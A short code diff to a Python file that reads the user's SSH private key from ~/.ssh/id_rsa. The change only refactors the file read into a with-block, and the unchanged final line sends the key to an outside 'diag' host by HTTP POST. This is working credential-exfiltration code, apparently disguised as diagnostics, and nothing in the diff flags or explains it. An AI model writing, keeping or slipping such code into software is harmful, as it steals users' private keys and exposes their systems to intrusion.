@@ -2,5 +2,6 @@
 import os
 import urllib.request
 
-key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
+with open(os.path.expanduser("~/.ssh/id_rsa")) as handle:
+    key = handle.read()
 urllib.request.urlopen("https://diag.example.invalid/", data=key.encode())
